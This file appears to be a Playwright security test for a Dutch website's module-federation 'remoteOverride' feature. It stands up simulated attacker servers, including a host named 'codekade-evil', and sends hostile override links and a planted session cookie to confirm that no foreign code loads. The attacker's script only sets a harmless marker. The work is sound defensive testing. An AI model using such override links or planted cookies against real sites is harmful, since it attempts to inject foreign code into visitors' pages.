/**
 * A stranger's override link (issue 47, point 1), sent as the probe sent it: a remote name the site's
 * discovery document does not list, on a preview-shaped host of a Hosting site derived from that name
 * (`codekade-evil--x-abcd1234.web.app`), which this browser resolves to the attacker's server on
 * loopback (`--host-resolver-rules`; the attacker's self-signed certificate is taken with
 * `--ignore-certificate-errors`, in this spec's own browser only, so a request that did go out would
 * reach the attacker and run its code). Also a loopback override of such a name, and a listed remote's
 * link, which must ask first and leave everything as it was on "Annuleren" or Escape.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer as createHttpServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import type { AddressInfo, Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { localAppsAt } from '@codekade/platform/apps';
import { readLocalSettings } from '@codekade/platform/local-settings';
import { CHROMIUM_FLAGS } from '@codekade/platform/media/browser';
import { type Browser, type BrowserContext, chromium, expect, type Page, test } from '@playwright/test';
import { localRemoteBadgeText } from 'shell/content/developer-badge-texts';
import { overrideConfirmationText, thisComputer } from 'shell/content/override-confirmation-texts';
import { areaHeadings } from '../support/area-headings';
import { isPageHydrated } from '../support/hydration';
import { overrideConfirmation } from '../support/override-confirmation';
import { portBase } from '../support/site';

const site = `http://localhost:${portBase}`;
const evilHost = 'codekade-evil--x-abcd1234.web.app';
/** The attacker's two servers (each worker's own, on free loopback ports): the preview-shaped HTTPS host, and one on loopback. */
let evilHttpsPort = 0;
let evilLoopbackPort = 0;
let evilLoopback = '';
const MARKER = '__foreignCodeRan';

/** What the attacker serves: a manifest whose entry sets a marker on the page it runs in. */
function attackerAnswer(origin: string) {
  return (request: IncomingMessage, response: ServerResponse) => {
    const headers = { 'access-control-allow-origin': '*' };
    if (request.url?.endsWith('mf-manifest.json')) {
      response.writeHead(200, { ...headers, 'content-type': 'application/json' });
      response.end(
        JSON.stringify({
          id: 'mf_evil',
          name: 'mf_evil',
          metaData: {
            name: 'mf_evil',
            publicPath: `${origin}/a/`,
            remoteEntry: { name: 'remoteEntry.js', path: '', type: 'global' },
            globalName: 'mf_evil',
            buildInfo: { sharedContractMajor: 1 },
          },
          shared: [],
          exposes: [
            { path: './routes', assets: { js: { sync: ['remoteEntry.js'], async: [] }, css: { sync: [], async: [] } } },
          ],
        }),
      );
      return;
    }
    response.writeHead(200, { ...headers, 'content-type': 'text/javascript' });
    response.end(`window.${MARKER} = true;`);
  };
}

/** A self-signed certificate for the attacker's preview-shaped host. */
function attackerCertificate(): { key: string; cert: string } {
  const dir = mkdtempSync(join(tmpdir(), 'codekade-attacker-'));
  try {
    const [key, cert] = [join(dir, 'key.pem'), join(dir, 'cert.pem')];
    const made = spawnSync(
      'openssl',
      ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '1', '-subj', `/CN=${evilHost}`].concat([
        '-keyout',
        key,
        '-out',
        cert,
        '-addext',
        `subjectAltName=DNS:${evilHost}`,
      ]),
      { encoding: 'utf8' },
    );
    if (made.status !== 0) throw new Error(`openssl could not make the attacker's certificate: ${made.stderr}`);
    return { key: readFileSync(key, 'utf8'), cert: readFileSync(cert, 'utf8') };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** Every connection any attacker server was reached by (a TLS handshake counts: nothing may even try). */
const reached: string[] = [];
const servers: Server[] = [];
let browser: Browser;

/** Listens on a free loopback port; resolves with it. */
function listen(server: Server, name: () => string): Promise<number> {
  server.on('connection', (socket: Socket) => reached.push(`${name()} from ${socket.remotePort}`));
  servers.push(server);
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve((server.address() as AddressInfo).port)));
}

test.beforeAll(async () => {
  evilHttpsPort = await listen(
    createHttpsServer(attackerCertificate(), attackerAnswer(`https://${evilHost}`)),
    () => evilHost,
  );
  evilLoopbackPort = await listen(
    createHttpServer((request, response) => attackerAnswer(evilLoopback)(request, response)),
    () => evilLoopback,
  );
  evilLoopback = `http://127.0.0.1:${evilLoopbackPort}`;
  browser = await chromium.launch({
    executablePath: readLocalSettings(process.env).chromiumPath,
    args: [
      ...CHROMIUM_FLAGS,
      `--explicitly-allowed-ports=${[...localAppsAt(portBase).map((app) => app.port), evilHttpsPort, evilLoopbackPort].join(',')}`,
      `--host-resolver-rules=MAP ${evilHost}:443 127.0.0.1:${evilHttpsPort}`,
      '--ignore-certificate-errors',
    ],
  });
});

test.afterAll(async () => {
  await browser?.close();
  await Promise.all(servers.map((server) => new Promise((resolve) => server.close(resolve))));
});

test.beforeEach(() => {
  reached.length = 0;
});

async function visitor(): Promise<{ context: BrowserContext; page: Page; warnings: string[] }> {
  const context = await browser.newContext({ baseURL: site, locale: 'nl-NL' });
  const page = await context.newPage();
  const warnings: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'warning') warnings.push(message.text());
  });
  return { context, page, warnings };
}

const markerSet = (page: Page) => page.evaluate((marker) => marker in window, MARKER);
const aboutHeading = (page: Page) => page.getByRole('heading', { level: 1, name: areaHeadings.about });
const badge = (page: Page) => page.getByRole('complementary', { name: localRemoteBadgeText.label });
const sessionOverrides = (page: Page) => page.evaluate(() => ({ ...sessionStorage }));

/** The page as a visitor without any override sees it: no marker, no badge, no cookie, nothing reached. */
async function expectUntouched(page: Page, context: BrowserContext): Promise<void> {
  expect(await markerSet(page)).toBe(false);
  await expect(badge(page)).toHaveCount(0);
  expect((await context.cookies()).map((cookie) => cookie.name)).not.toContain('__session');
  expect(await sessionOverrides(page)).toEqual({});
  expect(reached).toEqual([]);
}

/** The overrides the links ask for (the loopback server's port is known once it listens). */
const probeLinks: Record<string, () => string> = {
  "the probe's link (an unlisted name on the preview of a site derived from it)": () =>
    `mf_evil=https://${evilHost}/a/mf-manifest.json`,
  'a loopback override of an unlisted name': () => `mf_evil=${evilLoopback}/mf-manifest.json`,
  "a listed remote on the attacker's preview-shaped host": () => `mf_about=https://${evilHost}/a/mf-manifest.json`,
};

for (const [name, override] of Object.entries(probeLinks)) {
  test(`${name} runs no foreign code, asks nothing, and none on a later visit`, async () => {
    const { context, page, warnings } = await visitor();
    const answer = await page.goto(`/over-ons?remoteOverride=${override()}`);
    await page.waitForFunction(isPageHydrated);
    await expect(aboutHeading(page)).toBeVisible();
    // The composer widened nothing and sent the visitors' entry.
    const policy = answer?.headers()['content-security-policy'] ?? '';
    expect(policy).not.toContain(evilHost);
    expect(policy).not.toContain(`127.0.0.1:${evilLoopbackPort}`);
    expect(await answer?.text()).toMatch(/data-entry="\/static\/js\/index\./);
    await expect(overrideConfirmation(page)).toHaveCount(0);
    await expect(page).toHaveURL(`${site}/over-ons`);
    expect(warnings.join('\n')).toContain('Ignoring remote override');
    await expectUntouched(page, context);

    // A later visit, on the page where visitors type their name and e-mail.
    await page.goto('/contact');
    await page.waitForFunction(isPageHydrated);
    await expectUntouched(page, context);
    await context.close();
  });
}

test('a planted session cookie widens nothing and runs nothing: this tab never confirmed it', async () => {
  const { context, page } = await visitor();
  for (const planted of [
    { mf_evil: `${evilLoopback}/mf-manifest.json` },
    { mf_about: `${evilLoopback}/mf-manifest.json` },
  ]) {
    await context.addCookies([{ name: '__session', value: encodeURIComponent(JSON.stringify(planted)), url: site }]);
    await page.goto('/over-ons');
    await page.waitForFunction(isPageHydrated);
    await expect(aboutHeading(page)).toBeVisible();
    // The page removes a cookie it did not confirm, so the next answer is the visitors' again.
    await expect.poll(async () => (await context.cookies()).map((cookie) => cookie.name)).not.toContain('__session');
    await expectUntouched(page, context);
  }
  await context.close();
});

test.describe("a listed remote's link", () => {
  const link = () => `/over-ons?remoteOverride=mf_about=${evilLoopback}/mf-manifest.json`;

  test('asks first, naming the remote and the origin, with the focus kept inside; nothing loads while it asks', async () => {
    const { context, page } = await visitor();
    const answer = await page.goto(link(), { waitUntil: 'load' });
    const dialog = overrideConfirmation(page);
    await expect(dialog).toBeVisible();
    expect(answer?.headers()['content-security-policy']).not.toContain(`127.0.0.1:${evilLoopbackPort}`);
    await expect(dialog).toContainText('mf_about');
    await expect(dialog).toContainText(`${evilLoopback} (${thisComputer})`);
    await expect(dialog).toContainText('ontwikkelcode op deze site');
    const cancel = dialog.getByRole('button', { name: overrideConfirmationText.cancel });
    const proceed = dialog.getByRole('button', { name: overrideConfirmationText.confirm });
    await expect(cancel).toBeFocused();
    for (const key of ['Tab', 'Tab', 'Tab', 'Shift+Tab', 'Shift+Tab']) {
      await page.keyboard.press(key);
      expect(await dialog.evaluate((element) => element.contains(document.activeElement))).toBe(true);
    }
    // Tab, Tab, Tab, Shift+Tab, Shift+Tab went round the two buttons to "Doorgaan"; one more Tab comes back.
    await expect(proceed).toBeFocused();
    await page.keyboard.press('Tab');
    await expect(cancel).toBeFocused();
    expect(reached).toEqual([]);
    await expectUntouched(page, context);
    await context.close();
  });

  for (const [answerName, answerIt] of [
    ['Escape', (page: Page) => page.keyboard.press('Escape')],
    [
      '"Annuleren"',
      (page: Page) => overrideConfirmation(page).getByRole('button', { name: overrideConfirmationText.cancel }).click(),
    ],
  ] as const) {
    test(`${answerName} leaves the site exactly as it was, also on a later visit`, async () => {
      const { context, page } = await visitor();
      await page.goto(link(), { waitUntil: 'load' });
      await expect(overrideConfirmation(page)).toBeVisible();
      await answerIt(page);
      await expect(overrideConfirmation(page)).toHaveCount(0);
      await expect(page).toHaveURL(`${site}/over-ons`);
      await page.waitForFunction(isPageHydrated);
      await expect(aboutHeading(page)).toBeVisible();
      await expectUntouched(page, context);

      const later = await page.goto('/contact');
      await page.waitForFunction(isPageHydrated);
      expect(later?.headers()['content-security-policy']).not.toContain(`127.0.0.1:${evilLoopbackPort}`);
      await expectUntouched(page, context);
      await context.close();
    });
  }
});
